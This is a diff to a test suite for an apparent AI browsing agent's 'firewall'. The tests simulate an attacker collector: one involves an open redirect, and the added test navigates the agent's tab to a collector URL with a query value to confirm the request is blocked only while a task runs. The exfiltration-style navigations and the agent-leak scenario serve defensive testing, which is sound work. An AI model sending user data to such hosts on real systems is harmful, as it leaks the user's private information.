@@ -6,7 +6,7 @@
 // Real Chromium, the real dist/, sites served through the browser's routing (lib/fixtures.mjs).
 import { test, before, after, beforeEach } from 'node:test';
 import assert from 'node:assert/strict';
-import { scriptedModel, startAgentEnv } from './lib/agent-harness.mjs';
+import { lastUserText, scriptedModel, startAgentEnv } from './lib/agent-harness.mjs';
 import { page, shopRoutes } from './lib/shop-site.mjs';
 import { elements, find, planner, shopper, urlOf } from './lib/scripted-shopper.mjs';
 
@@ -114,7 +114,6 @@ test('(a) an open redirect on the shop: the redirect to the attacker is held bac
   assert.match(text, new RegExp(`e = “${EMAIL}”`));
   assert.deepEqual(received(), [], 'nothing reached the attacker before the answer');
   const asked = await denyAll();
-  console.log(await ui.status().textContent(), (await ui.steps()).join('\n'));
   assert.deepEqual(received(), [], 'the attacker received no request');
   assert.ok(asked.length >= 1);
   assert.ok(!(await tab.url()).startsWith(COLLECT));
@@ -236,4 +235,36 @@ test('the legitimate shop task (search, open a product, add it) asks no question
   assert.deepEqual([...asked], [], 'no question');
   assert.deepEqual(cart, ['blue-backpack']);
   assert.deepEqual(received(), []);
+});
+
+test("the firewall holds only while the task runs: after a worker restart (task Paused) and after the task ends, the user's own visit to that site goes through", async () => {
+  let stopNow;
+  const stopping = new Promise((r) => { stopNow = r; });
+  let navigatorTurns = 0;
+  navigator = shopper;
+  mock.setDefault(async (rec) => {
+    const out = await llm(rec);
+    if (!lastUserText(rec.body).startsWith('ROLE: PLANNER') && ++navigatorTurns === 2) {
+      stopNow();
+      return { ...out, latencyMs: 3000 };
+    }
+    return out;
+  });
+  await ui.startTask(tab, 'Add the blue backpack to the cart', site.url + '/');
+  await stopping;
+  // While the task runs, a page of its tab cannot reach the collector (a script's navigation).
+  await tab.evaluate((u) => { location.href = u; }, `${COLLECT}/?e=while-running`);
+  await tab.waitForTimeout(500);
+  assert.deepEqual(received(), [], 'held while the task runs');
+  await env.browser.stopServiceWorker();
+  await ui.waitStatus(/^Paused/, 15_000);
+  // The loop died with the worker; the restarted worker removed its rules.
+  await tab.goto(`${COLLECT}/?e=paused`);
+  assert.deepEqual(received().map((r) => r.query.e), ['paused']);
+  received().length = 0;
+  mock.setDefault(llm);
+  await ui.button('Resume').click();
+  await ui.waitStatus(/^(Done|Failed)/, 30_000);
+  await tab.goto(`${COLLECT}/?e=ended`);
+  assert.deepEqual(received().map((r) => r.query.e), ['ended']);
 });
